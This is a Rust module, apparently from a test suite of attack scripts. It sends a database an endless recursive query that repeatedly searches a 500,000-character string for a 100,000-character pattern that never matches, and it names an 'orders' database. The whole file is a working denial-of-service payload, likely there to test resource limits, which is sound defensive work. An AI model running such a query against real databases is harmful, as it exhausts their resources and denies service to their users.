//! Has a database look for a long text in a longer one, which nothing interrupts, again and again.
#![no_main]
use attacks::*;

struct Script;
export!(Script);

impl Attack for Script {
    fn run(_: &str) -> Result {
        let long = "replace(hex(zeroblob(250000)), '00', 'aa')";
        let sought = "replace(hex(zeroblob(100000)), '00', 'aa') || 'b'";
        let rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)";
        let sql = format!("{rows} SELECT sum(instr({long} || i, {sought})) FROM n");
        database::query("orders", &sql).map(drop)
    }
}
